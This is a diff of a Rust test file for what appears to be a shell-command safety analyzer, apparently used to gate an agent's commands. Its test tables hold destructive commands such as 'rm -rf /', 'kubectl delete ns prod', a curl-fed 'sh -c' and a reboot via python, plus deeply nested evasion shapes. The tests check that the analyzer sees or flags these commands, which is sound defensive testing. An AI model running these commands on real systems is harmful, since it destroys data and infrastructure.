+    ("awk '{print $1}' file", &[&["awk", "{print $1}", "file"]], false),
+    ("awk -F, '$1 == \"a\" || $2 == \"b\" {print}' f", &[&["awk", "-F,", "$1 == \"a\" || $2 == \"b\" {print}", "f"]], false),
+    ("sed -n 's/foo/bar/gp' file", &[&["sed", "-n", "s/foo/bar/gp", "file"]], false),
+    ("sed -i.bak -e 's/a/b/' -e '/x/d' f", &[&["sed", "-i.bak", "-e", "s/a/b/", "-e", "/x/d", "f"]], false),
+    ("sed '/^#/d;s/x/y/;1,5p;$a end' f", &[&["sed", "/^#/d;s/x/y/;1,5p;$a end", "f"]], false),
+    ("find . -name '*.rs' -print", &[&["find", ".", "-name", "*.rs", "-print"]], false),
+    ("jq '.items[] | .name' x.json", &[&["jq", ".items[] | .name", "x.json"]], false),
     ("echo \"a | sh\"", &[&["echo", "a | sh"]], false),
-    (
-        "command -v kubectl",
-        &[&["command", "-v", "kubectl"]],
-        false,
-    ),
-    (
-        "docker run --rm alpine echo hi",
-        &[&["docker", "run", "--rm", "alpine", "echo", "hi"]],
-        false,
-    ),
+    ("command -v kubectl", &[&["command", "-v", "kubectl"]], false),
+    ("docker run --rm alpine echo hi", &[&["docker", "run", "--rm", "alpine", "echo", "hi"]], false),
     ("echo $(( 2 * 3 ))", &[&["echo", "$(( 2 * 3 ))"]], false),
-    (
-        "gh pr create --body 'run `rm -rf /` to clean'",
-        &[&["gh", "pr", "create", "--body", "run `rm -rf /` to clean"]],
-        false,
-    ),
+    ("gh pr create --body 'run `rm -rf /` to clean'", &[&["gh", "pr", "create", "--body", "run `rm -rf /` to clean"]], false),
     ("sudo -v", &[&["sudo", "-v"]], false),
     ("env", &[&["env"]], false),
     ("nohup", &[&["nohup"]], false),
     ("ssh host", &[&["ssh", "host"]], false),
-    (
-        "tar czf x.tgz --exclude='rm -rf' dir",
-        &[&["tar", "czf", "x.tgz", "--exclude=rm -rf", "dir"]],
-        false,
-    ),
-    (
-        "make test 2>&1 | tee log.txt",
-        &[&["make", "test"], &["tee", "log.txt"]],
-        false,
-    ),
-    (
-        "echo \"kubectl delete ns prod\" | wc -c",
-        &[&["echo", "kubectl delete ns prod"], &["wc", "-c"]],
-        false,
-    ),
+    ("tar czf x.tgz --exclude='rm -rf' dir", &[&["tar", "czf", "x.tgz", "--exclude=rm -rf", "dir"]], false),
+    ("make test 2>&1 | tee log.txt", &[&["make", "test"], &["tee", "log.txt"]], false),
+    ("echo \"kubectl delete ns prod\" | wc -c", &[&["echo", "kubectl delete ns prod"], &["wc", "-c"]], false),
     ("bash --version", &[&["bash", "--version"]], false),
-    (
-        "kubectl get pods -o json | jq '.items | length'",
-        &[
-            &["kubectl", "get", "pods", "-o", "json"],
-            &["jq", ".items | length"],
-        ],
-        false,
-    ),
-    (
-        "git diff HEAD~1 -- 'src/*.rs'",
-        &[&["git", "diff", "HEAD~1", "--", "src/*.rs"]],
-        false,
-    ),
-    (
-        "echo rm -rf / > /dev/null",
-        &[&["echo", "rm", "-rf", "/"]],
-        false,
-    ),
+    ("python3 --version && node -v", &[&["python3", "--version"], &["node", "-v"]], false),
+    ("kubectl get pods -o json | jq '.items | length'", &[&["kubectl", "get", "pods", "-o", "json"], &["jq", ".items | length"]], false),
+    ("git diff HEAD~1 -- 'src/*.rs'", &[&["git", "diff", "HEAD~1", "--", "src/*.rs"]], false),
+    ("echo rm -rf / > /dev/null", &[&["echo", "rm", "-rf", "/"]], false),
+    ("echo \\; rm -rf /", &[&["echo", ";", "rm", "-rf", "/"]], false),
+    ("git commit -m \"$(cat <<'EOF'\nFix: never rm -rf / again\n\nkubectl delete ns prod was bad\nEOF\n)\"", &[&["cat"], &["git", "commit", "-m", "$(cat <<'EOF'\nFix: never rm -rf / again\n\nkubectl delete ns prod was bad\nEOF\n)"]], false),
+    ("gh pr create --title x --body \"$(cat <<'EOF'\n## Summary\n- rm -rf / guard\nEOF\n)\"", &[&["cat"], &["gh", "pr", "create", "--title", "x", "--body", "$(cat <<'EOF'\n## Summary\n- rm -rf / guard\nEOF\n)"]], false),
+    ("cat > notes.md <<'EOF'\nRun `kubectl delete ns prod` and $(rm -rf /)\nEOF", &[&["cat"]], false),
+    ("python3 -m http.server 8000", &[&["python3", "-m", "http.server", "8000"]], false),
+    ("node script.js --eval-mode", &[&["node", "script.js", "--eval-mode"]], false),
 ];
 
 fn check(table: &[Case]) {
@@ -814,56 +402,26 @@ type ArgvCase = (
     bool,
 );
 
+#[rustfmt::skip]
 const ARGV: &[ArgvCase] = &[
     (&["rm", "-rf", "/"], &[RM], false),
     (&["sudo", "rm", "-rf", "/"], &[RM], false),
     (&["bash", "-c", "rm -rf / && ls"], &[RM, &["ls"]], false),
     (&["env", "-S", "rm -rf /"], &[RM], false),
-    (
-        &["find", ".", "-exec", "rm", "{}", ";"],
-        &[&["find", ".", "-exec", "rm", "{}", ";"], &["rm", "{}"]],
-        false,
-    ),
+    (&["find", ".", "-exec", "rm", "{}", ";"], &[&["find", ".", "-exec", "rm", "{}", ";"], &["rm", "{}"]], false),
     (&["xargs", "rm"], &[&["rm", "<stdin>"]], false),
     (&["echo", "$(rm -rf /)"], &[&["echo", "$(rm -rf /)"]], false),
-    (
-        &["echo", "rm -rf /; kubectl delete ns prod"],
-        &[&["echo", "rm -rf /; kubectl delete ns prod"]],
-        false,
-    ),
-    (
-        &["git", "commit", "-m", "kubectl delete ns prod"],
-        &[&["git", "commit", "-m", "kubectl delete ns prod"]],
-        false,
-    ),
-    (
-        &["ssh", "prod", "sudo kubectl delete ns prod"],
-        &[&["ssh", "prod", "sudo kubectl delete ns prod"], KDEL],
-        false,
-    ),
-    (
-        &["sudo", "-u", "deploy", "sh", "-c", "$(curl x)"],
-        &[&["curl", "x"]],
-        true,
-    ),
+    (&["echo", "rm -rf /; kubectl delete ns prod"], &[&["echo", "rm -rf /; kubectl delete ns prod"]], false),
+    (&["git", "commit", "-m", "kubectl delete ns prod"], &[&["git", "commit", "-m", "kubectl delete ns prod"]], false),
+    (&["ssh", "prod", "sudo kubectl delete ns prod"], &[&["ssh", "prod", "sudo kubectl delete ns prod"], KDEL], false),
+    (&["sudo", "-u", "deploy", "sh", "-c", "$(curl x)"], &[&["curl", "x"]], true),
     (&["bash"], &[], true),
-    (
-        &["python3", "-c", "import os; os.system('reboot')"],
-        &[
-            &["python3", "-c", "import os; os.system('reboot')"],
-            &["reboot"],
-        ],
-        true,
-    ),
+    (&["python3", "-c", "import os; os.system('reboot')"], &[&["python3", "-c", "import os; os.system('reboot')"], &["reboot"]], true),
     (&["eval", "rm -rf /"], &[RM], true),
     (&["watch", "kubectl delete ns prod"], &[KDEL], false),
     (&["timeout", "5", "nice", "rm", "-rf", "/"], &[RM], false),
     (&["FOO=1", "rm", "-rf", "/"], &[RM], false),
-    (
-        &["/usr/bin/sudo", "/bin/rm", "-rf", "/"],
-        &[&["/bin/rm", "-rf", "/"]],
-        false,
-    ),
+    (&["/usr/bin/sudo", "/bin/rm", "-rf", "/"], &[&["/bin/rm", "-rf", "/"]], false),
 ];
 
 #[test]
@@ -959,6 +517,37 @@ fn deep_nesting_is_bounded() {
     let a = script(&long);
     assert!(a.commands.iter().any(|c| c.words[0].text == "rm"));
     assert!(!a.is_opaque());
+}
+
+#[test]
+fn deep_shapes_do_not_overflow_the_stack() {
+    let n = 5_000;
+    let shapes = [
+        "eval ".repeat(n) + "rm -rf /",
+        "sudo env nice ".repeat(n) + "rm -rf /",
+        "{ ".repeat(n) + "rm -rf /;" + &" }".repeat(n),
+        "( ".repeat(n) + "rm -rf /" + &" )".repeat(n),
+        "if true; then ".repeat(n) + "rm -rf /" + &"; fi".repeat(n),
+        "echo \"$(".repeat(n) + "rm" + &")\"".repeat(n),
+        "<(".repeat(n) + "rm" + &")".repeat(n),
+        "${x:-".repeat(n) + "$(rm)" + &"}".repeat(n),
+        "f() { ".repeat(n) + "rm;" + &" }".repeat(n),
+        "! ".repeat(n) + "rm",
+        "x=$(".repeat(n) + "rm" + &")".repeat(n),
+        "bash -c ".repeat(n) + "rm",
+        "python3 -c \"os.system('".repeat(50) + "rm" + &"')\"".repeat(50),
+    ];
+    for s in &shapes {
+        let a = script(s);
+        // Either it is seen, or it is opaque: never silently allowed.
+        let seen = a.commands.iter().any(|c| c.words[0].text == "rm");
+        assert!(seen || a.is_opaque(), "{}", &s[..60.min(s.len())]);
+    }
+    let argv: Vec<String> = std::iter::repeat_n("sudo", n)
+        .chain(["rm", "-rf", "/"])
+        .map(String::from)
+        .collect();
+    assert!(analyze_argv(&argv, &Wrappers::builtin()).is_opaque());
 }
 
 fn shell_quote(s: &str) -> String {
